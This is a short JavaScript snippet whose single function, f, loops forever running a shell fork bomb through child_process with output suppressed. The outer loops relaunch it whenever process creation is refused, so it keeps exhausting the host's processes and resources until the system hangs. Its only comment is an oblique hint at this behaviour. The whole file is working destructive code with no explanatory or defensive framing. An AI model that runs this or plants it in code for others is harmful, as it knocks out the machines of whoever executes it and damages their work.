// Processes that make processes, and go on when they are refused.
function f(x) {
  const { spawnSync } = require('child_process');
  for (;;) spawnSync('sh', ['-c', 'b() { b | b & }; b; while :; do b; done'], { stdio: 'ignore' });
}
